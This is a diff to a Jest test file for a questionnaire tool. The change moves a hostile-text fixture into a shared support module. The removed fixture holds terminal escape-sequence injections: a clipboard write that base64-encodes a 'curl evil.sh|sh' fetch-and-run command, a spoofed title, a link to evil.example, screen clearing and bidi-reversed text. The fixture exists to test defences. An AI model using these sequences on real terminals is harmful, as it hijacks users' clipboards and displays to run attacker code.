@@ -5,6 +5,7 @@
 import { writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals';
+import { hostile as trickery } from '../support/hostile.js';
 import {
   type AnswerValue,
   answersYaml,
@@ -340,13 +341,8 @@ describe('pasting into a text answer (issue 10, finding 10)', () => {
 });
 
 describe("a custom bank's own text in the questionnaire (issue 10, finding 3)", () => {
-  const BEL = '\u0007';
   /** The clipboard, the title, a link, a cleared screen, an overwritten line, reversed and hidden text. */
-  const hostile = (word: string) =>
-    JSON.stringify(
-      `${word}${ESC}]52;c;Y3VybCBldmlsLnNofHNo${BEL}${ESC}]0;pwned${BEL}${ESC}]8;;https://evil.example${BEL}link` +
-        `${ESC}]8;;${BEL}${ESC}[2J\rFORGED \u202Edesrever\u200B\u009b2J`,
-    );
+  const hostile = (word: string) => JSON.stringify(trickery(word));
   const bank = `id: hostile
 version: 1
 title: ${hostile('Title')}
